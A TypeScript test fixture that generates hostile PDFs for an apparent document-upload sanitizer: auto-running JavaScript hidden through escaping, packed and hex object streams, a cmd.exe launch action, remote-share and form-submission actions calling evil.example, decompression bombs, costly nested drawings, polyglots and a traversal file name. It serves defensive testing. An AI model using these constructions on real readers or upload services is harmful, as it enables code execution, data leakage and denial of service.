import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { hostilePictures, type HostileFile, SMUGGLED } from './hostile-pictures';

const TYPE = 'application/pdf';

const stream = (head: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${head} /Length ${content.length}>>\nstream\n`),
    content,
    Buffer.from('\nendstream\n'),
  ]);

interface PdfContent {
  readonly pages?: number;
  /** Further entries of the catalogue. */
  readonly catalogue?: string;
  /** Further objects: the first has the number 5. */
  readonly objects?: readonly (string | Buffer)[];
  /** What its pages show, and of what. */
  readonly content?: string;
  readonly resources?: string;
}

const FONT = '/Resources <</Font <</F1 <</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>>>>>';

/** A PDF whose pages each say a word. */
export function aPdf({
  pages = 1,
  catalogue = '',
  objects = [],
  content = 'BT /F1 24 Tf 72 720 Td (Extrait Kbis) Tj ET',
  resources = FONT,
}: PdfContent = {}): Buffer {
  const page = `<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${resources} /Contents 4 0 R>>\n`;
  const others = Array.from({ length: Math.max(0, pages - 1) }, (_, at) => 5 + objects.length + at);
  const kids = [...(pages > 0 ? [3] : []), ...others].map((number) => `${number} 0 R`).join(' ');
  const bodies: Buffer[] = [
    `<</Type /Catalog /Pages 2 0 R ${catalogue}>>\n`,
    `<</Type /Pages /Kids [${kids}] /Count ${pages}>>\n`,
    page,
    stream('', Buffer.from(content)),
    ...objects,
    ...others.map(() => page),
  ].map((body) => (typeof body === 'string' ? Buffer.from(body) : body));
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    ...bodies.flatMap((body, at) => [Buffer.from(`${at + 1} 0 obj\n`), body, Buffer.from('endobj\n')]),
    Buffer.from(`trailer\n<</Root 1 0 R /Size ${bodies.length + 1}>>\nstartxref\n0\n%%EOF\n`),
  ]);
}

/**
 * A PDF of 2 kB whose page is dear to draw: each drawing shows the next one ten times, see-through, the last fills the page.
 * @param depth of the drawings: five are minutes of processor time, each less a tenth of it
 */
export function aDearPdf(depth = 5): Buffer {
  const form = (entries: string, content: string): Buffer =>
    stream(`/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${entries}`, Buffer.from(content));
  const nested = Array.from({ length: depth }, (_, at) =>
    form(
      `/Group <</S /Transparency>> /Resources <</XObject <</F ${at + 6} 0 R>>>>`,
      '/F Do '.repeat(at === 0 ? 1 : 10),
    ),
  );
  const objects = [...nested, form('', '0 0 595 842 re f 0 0 m 595 842 l S')];
  return aPdf({ objects, resources: '/Resources <</XObject <</F 5 0 R>>>>', content: '/F Do' });
}

const withEntry = (catalogue: string, ...objects: readonly (string | Buffer)[]): Buffer =>
  aPdf({ catalogue, objects });

/** A PDF that is encrypted: with a password to open it, or to change it alone. */
async function encrypted(options: { readonly userPassword?: string; readonly ownerPassword: string }) {
  const pdf = new PDFDocument(options);
  pdf.text('Extrait Kbis');
  pdf.end();
  return buffer(pdf);
}

/** The names that a PDF uses outside of its streams. */
export const namesOfPdf = (pdf: Buffer): string[] => [
  ...new Set(
    [
      ...pdf
        .toString('latin1')
        .replaceAll(/stream\r?\n[^]*?endstream/g, '')
        .matchAll(/\/([^\s/<>[\]()]+)/g),
    ].map(([, name = '']) => name),
  ),
];

const RUN = `app.alert('${SMUGGLED}')`;
const script = `<</S /JavaScript /JS (${RUN})>>\n`;
const packed = (text: string, size = text.length): Buffer =>
  deflateSync(Buffer.concat([Buffer.from(text), Buffer.alloc(size - text.length, ' ')]));

const file = (what: string, name: string, bytes: Buffer, isTaken = false): HostileFile => ({
  what,
  name,
  type: TYPE,
  bytes,
  isPicture: isTaken,
});

const taken = (what: string, name: string, bytes: Buffer): HostileFile => file(what, name, bytes, true);

/** Documents with a script, hidden more or less well: each is taken, and nothing of it but its page is kept. */
function withScript(): HostileFile[] {
  const packedObjects = (text: string, size?: number) =>
    stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`5 0 ${text}`, size));
  return [
    taken('a PDF that runs a script when it is opened', 'kbis.pdf', withEntry(`/OpenAction ${script}`)),
    taken('a PDF with scripts by name', 'names.pdf', withEntry('/Names <</JavaScript 5 0 R>>', script)),
    taken(
      'a PDF whose script is spelt otherwise',
      'spelt.pdf',
      withEntry(`/OpenAction <</S /J#61va#53cript /JS (${RUN})>>`),
    ),
    taken(
      'a PDF with its script in a packed object',
      'packed.pdf',
      withEntry('/OpenAction 5 0 R', packedObjects(script)),
    ),
    taken(
      'a PDF with its script in an object that is packed twice',
      'twice.pdf',
      withEntry(
        '/OpenAction 5 0 R',
        stream(
          '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
          deflateSync(packed(`5 0 ${script}`)),
        ),
      ),
    ),
    taken(
      'a PDF with its script in hexadecimal, by a name that is spelt otherwise',
      'hex.pdf',
      withEntry(
        '/OpenAction 5 0 R',
        stream(
          '/Type /Obj#53tm /N 1 /First 4 /Filter /ASCIIHexDecode',
          Buffer.from(`${Buffer.from(`5 0 ${script}`).toString('hex')}>`),
        ),
      ),
    ),
    taken(
      'a PDF with packed objects that cannot be looked at',
      'odd.pdf',
      withEntry('', stream('/Type /ObjStm /Filter /LZWDecode', Buffer.from([0x80, 1, 2, 3]))),
    ),
    taken(
      'a PDF with packed objects of forty megabytes',
      'bomb.pdf',
      withEntry('', packedObjects('<<>>', 40_000_000)),
    ),
  ];
}

/** Documents that do something else than show something: each is taken, and nothing of it but its page is kept. */
function withAction(): HostileFile[] {
  return [
    taken('a PDF that starts a program', 'launch.pdf', withEntry('/OpenAction <</S /Launch /F (cmd.exe)>>')),
    taken(
      'a PDF that opens another on a server of somebody',
      'remote.pdf',
      withEntry('/OpenAction <</S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]>>'),
    ),
    taken(
      'a PDF that asks for an address when it is opened',
      'address.pdf',
      withEntry(`/AA <</O <</S /URI /URI (https://evil.example/${SMUGGLED})>>>>`),
    ),
    taken(
      'a PDF that carries a file',
      'carrier.pdf',
      withEntry('/Names <</EmbeddedFiles 5 0 R>>', stream('/Type /EmbeddedFile', Buffer.from(SMUGGLED))),
    ),
    taken('a PDF with a film', 'film.pdf', withEntry('', '<</Type /Annot /Subtype /RichMedia>>\n')),
    taken(
      'a PDF with a form of XML',
      'xfa.pdf',
      withEntry('/AcroForm <</XFA 5 0 R>>', stream('', Buffer.from(`<xdp>${SMUGGLED}</xdp>`))),
    ),
    taken(
      'a PDF that sends itself',
      'send.pdf',
      withEntry('/OpenAction <</S /SubmitForm /F (https://evil.example)>>'),
    ),
    taken(
      'a PDF that opens another inside',
      'inside.pdf',
      withEntry('/OpenAction <</S /GoToE /T <</R /C>>>>'),
    ),
  ];
}

/** Documents that cost whoever looks for words in them minutes. */
function slow(): HostileFile[] {
  const megabytes = (text: string, size: number) => Buffer.alloc(size * 1024 * 1024, text);
  return [
    file(
      'a PDF of ten megabytes of letters that are spelt otherwise',
      'spelt-letters.pdf',
      withEntry('', Buffer.concat([Buffer.from('('), megabytes('#41', 9.9), Buffer.from(')\n')])),
      true,
    ),
    file(
      'a PDF of four hundred streams of one letter',
      'streams.pdf',
      withEntry(
        '',
        ...Array.from({ length: 400 }, () => stream('/Filter /FlateDecode', megabytes('e', 0.02))),
      ),
      true,
    ),
    file(
      'a PDF of a million beginnings of a stream',
      'beginnings.pdf',
      withEntry('', Buffer.concat([megabytes('stream\n', 7), Buffer.from('\n')])),
      true,
    ),
  ];
}

async function locked(): Promise<HostileFile[]> {
  return [
    file(
      'a PDF that asks for a password',
      'locked.pdf',
      await encrypted({ userPassword: 'secret', ownerPassword: 'other' }),
    ),
    file(
      'a PDF that may be read and not changed',
      'protected.pdf',
      await encrypted({ ownerPassword: 'other' }),
      true,
    ),
  ];
}

function broken(): HostileFile[] {
  const pdf = aPdf();
  return [
    file('a PDF without a page', 'empty.pdf', aPdf({ pages: 0 })),
    file('a PDF that was cut', 'cut.pdf', pdf.subarray(0, pdf.length >> 1)),
    file('a PDF behind a program', 'program.pdf', Buffer.concat([Buffer.from('MZ\x90\0'), pdf])),
    file(
      'a page that says it is a PDF',
      'page.pdf',
      Buffer.from(`<html>%PDF-1.7<script>alert("${SMUGGLED}")</script>%%EOF`),
    ),
    file(
      'a PDF of eleven megabytes',
      'large.pdf',
      Buffer.concat([pdf, Buffer.alloc(11 * 1024 * 1024, '%'), Buffer.from('\n%%EOF\n')]),
    ),
  ];
}

function disguised(): HostileFile[] {
  const pdf = aPdf();
  return [
    file('a PDF that only shows something', 'honest.pdf', pdf, true),
    file(
      'a PDF with pictures that are packed',
      'scan.pdf',
      withEntry('', stream('/Filter /FlateDecode', packed('', 3_000_000))),
      true,
    ),
    file(
      'a PDF with an archive behind it',
      'tail.pdf',
      Buffer.concat([pdf, Buffer.from(`PK\x03\x04${SMUGGLED}PK\x05\x06`)]),
      true,
    ),
    file(
      'a PDF with a page behind it',
      'page-tail.pdf',
      Buffer.concat([pdf, Buffer.from(`<script>alert("${SMUGGLED}")</script>`)]),
      true,
    ),
    file('a PDF with the name of a page', '../../kbis.pdf.html', pdf, true),
  ];
}

let documents: Promise<readonly HostileFile[]> | undefined;

/**
 * Files that somebody sends as a proof: documents that do more than show something, and every hostile picture. `isPicture`
 * says whether one is taken: as pictures of its pages, or as a picture.
 */
export const hostileDocuments = (): Promise<readonly HostileFile[]> => (documents ??= makeDocuments());

async function makeDocuments(): Promise<HostileFile[]> {
  const pictures = await hostilePictures();
  return [
    ...withScript(),
    ...withAction(),
    ...slow(),
    ...(await locked()),
    ...broken(),
    ...disguised(),
    // A phone's photograph and a scan are JPEG or PNG.
    ...pictures.map((picture) => ({
      ...picture,
      isPicture: picture.isPicture && !picture.bytes.subarray(8, 12).equals(Buffer.from('WEBP')),
    })),
  ];
}
